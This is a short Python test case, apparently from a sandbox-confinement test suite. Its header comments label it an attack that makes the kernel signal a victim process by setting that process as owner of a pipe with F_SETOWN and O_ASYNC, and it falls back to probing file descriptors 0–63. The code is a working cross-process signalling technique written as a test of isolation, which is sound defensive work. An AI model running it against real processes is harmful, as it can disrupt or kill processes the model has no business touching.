# attack: has the kernel signal another process, by naming it the owner of a pipe (F_SETOWN)
# class: processes
# success: victim
# control: unconfined
import fcntl, os
def f(x, note):
    try:
        pairs = [os.pipe()]
    except OSError:
        pairs = [(number, number) for number in range(64)]
    for reader, writer in pairs:
        try:
            fcntl.fcntl(reader, fcntl.F_SETOWN, int("@victim@"))
            fcntl.fcntl(reader, fcntl.F_SETFL, os.O_ASYNC | os.O_NONBLOCK)
            os.write(writer, b"x")
        except OSError:
            pass
